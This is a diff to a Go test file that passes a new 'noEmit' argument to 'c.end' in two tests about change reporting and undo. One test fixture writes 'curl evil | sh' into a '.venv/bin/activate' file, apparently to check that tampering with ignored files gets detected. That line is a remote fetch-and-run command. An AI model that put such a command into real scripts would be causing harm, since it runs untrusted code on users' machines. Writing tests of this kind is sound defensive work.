@@ -55,7 +55,7 @@ func writeTestFile(t *testing.T, path, body string) {
 func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
 	p, c, _ := inPlaceFixture(t)
 	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
-	changes, after, err := c.end()
+	changes, after, err := c.end(noEmit)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -78,7 +78,7 @@ func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
 	if err := os.Remove(filepath.Join(root, "notes.md")); err != nil {
 		t.Fatal(err)
 	}
-	if _, _, err := c.end(); err != nil {
+	if _, _, err := c.end(noEmit); err != nil {
 		t.Fatal(err)
 	}
 	writeTestFile(t, filepath.Join(root, "main.go"), "package main // the person, later\n")
